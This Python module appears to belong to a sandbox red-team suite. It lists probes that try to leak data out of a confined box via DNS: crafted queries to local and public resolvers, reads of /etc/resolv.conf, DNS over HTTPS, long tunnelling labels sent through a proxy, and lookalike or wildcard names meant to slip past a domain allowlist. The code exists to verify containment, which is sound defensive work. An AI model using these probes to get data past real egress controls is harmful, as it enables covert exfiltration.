"""Names: what is asked of a name server carries words out, so nothing is asked that is not allowed."""

from __future__ import annotations

import contextlib
import os
import socket

from corral.redteam.inside.attempt import Attempt
from corral.redteam.inside.box import Box
from corral.redteam.inside.ends import Won
from corral.redteam.inside.means import Tries, connects, connects_unix, proxied, sends

_QUERY = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x05words\x06tunnel\x04test\x00\x00\x10\x00\x01"


def _looks_up(name: str) -> Tries:
    def tries(box: Box) -> None:
        try:
            found = socket.getaddrinfo(name, 80)
        except (socket.gaierror, UnicodeError) as error:
            box.note(f"no answer: {error}")
            return
        raise Won(f"{name} is {found[0][4][0]}")

    return tries


def _name_servers(box: Box) -> None:
    data = b""
    with contextlib.suppress(FileNotFoundError):
        data = box.read("/etc/resolv.conf")
    if b"nameserver" in data and box.is_of_the_machine("/etc/resolv.conf", data):
        raise Won("it knows the machine's name servers")
    box.note("it knows no name server")


def _long_label(box: Box) -> None:
    """As much as a name can carry."""
    words = ".".join(os.urandom(25).hex() for _ in range(4))
    host = f"{words}.tunnel.test"
    box.judge(box.say(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n".encode()))


def _by_https(box: Box) -> None:
    """A name server that speaks HTTPS."""
    host = "dns.google:443"
    box.judge(box.say(f"CONNECT {host} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()))


ATTEMPTS = {
    "dns": [
        Attempt("looks-up", "looks a name up", _looks_up("words.tunnel.test"), watches=("names",)),
        Attempt("looks-up-allowed", "looks up one that is allowed", _looks_up("allowed.test")),
        Attempt("servers", "finds the machine's name servers", _name_servers),
        Attempt("datagram", "asks a name server on the machine", sends("127.0.0.1", "53", _QUERY)),
        Attempt("datagram-53", "asks one of the machine's network", sends("127.0.0.53", "53", _QUERY)),
        Attempt("datagram-out", "asks one of the internet", sends("8.8.8.8", "53", _QUERY)),
        Attempt("stream", "asks one by TCP", connects("8.8.8.8", "53")),
        Attempt("cache", "asks the machine's cache of names", connects_unix("/var/run/nscd/socket")),
        Attempt(
            "resolver",
            "asks the machine's resolver",
            connects_unix("/run/systemd/resolve/io.systemd.Resolve"),
        ),
        Attempt(
            "proxied",
            "has the proxy look up a name that is not allowed",
            proxied("words.tunnel.test", "80"),
            watches=("names",),
        ),
        Attempt("proxied-long", "puts as much into a name as goes in", _long_label, watches=("names",)),
        Attempt(
            "proxied-53",
            "reaches a name server through the proxy",
            proxied("8.8.8.8", "53"),
            watches=("names",),
        ),
        Attempt("proxied-https", "reaches one that speaks HTTPS", _by_https, watches=("names",)),
        Attempt(
            "below-allowed",
            "puts words before a name that is allowed",
            proxied("words.allowed.test", "{allowed_port}"),
            watches=("names",),
        ),
        Attempt(
            "after-allowed",
            "puts a domain after a name that is allowed",
            proxied("allowed.test.tunnel.test", "{allowed_port}"),
            watches=("names",),
        ),
        Attempt(
            "like-allowed",
            "takes a name that ends like an allowed one",
            proxied("notallowed.test", "{allowed_port}"),
            watches=("names",),
        ),
        Attempt(
            "like-wildcard",
            "takes a name that ends like an allowed domain",
            proxied("evilwild.test", "{allowed_port}"),
            watches=("names",),
        ),
        Attempt(
            "wildcard-itself",
            "takes the domain below which all are allowed",
            proxied("wild.test", "{allowed_port}"),
            watches=("names",),
        ),
    ],
}
